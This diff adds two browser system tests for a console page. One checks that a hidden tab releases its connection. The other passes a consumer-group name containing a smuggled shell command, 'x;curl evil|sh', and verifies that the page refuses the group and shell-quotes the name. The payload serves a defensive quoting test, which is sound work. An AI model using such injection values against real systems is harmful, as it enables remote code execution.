@@ -348,6 +348,39 @@ class ConsolePageSystemTests {
         .isZero();
   }
 
+  /** A browser has six connections to a console: tabs that nobody looks at must not hold them. */
+  @Test
+  @Order(12)
+  void givesItsConnectionBackWhileNobodySeesIt() {
+    soon(() -> assertThat(browser.text("#connection")).isEqualTo("live"));
+    hide(true);
+    soon(() -> assertThat(browser.text("#connection")).isEqualTo("paused"));
+    hide(false);
+
+    soon(() -> assertThat(browser.text("#connection")).isEqualTo("live"));
+  }
+
+  private static void hide(boolean hidden) {
+    browser.run(
+        "Object.defineProperty(document, 'hidden', {value: arguments[0], configurable: true});"
+            + " document.dispatchEvent(new Event('visibilitychange'))",
+        hidden);
+  }
+
+  @Test
+  @Order(13)
+  void saysWhyAGroupCannotBeWatchedAndQuotesItsNameForShells() {
+    browser.open("http://localhost:" + launcher.consolePort() + "/?group=x;curl%20evil%7Csh");
+
+    soon(() -> assertThat(browser.text("#connection")).isEqualTo("refused"));
+    assertThat(browser.text("#sentence")).contains("no consumer group");
+    assertThat(
+            browser
+                .run("return document.querySelector('#replica-command pre').textContent")
+                .stringValue())
+        .contains("--group 'x;curl evil|sh'");
+  }
+
   private static JsonNode get(String path) {
     return get(launcher.consolePort(), path);
   }
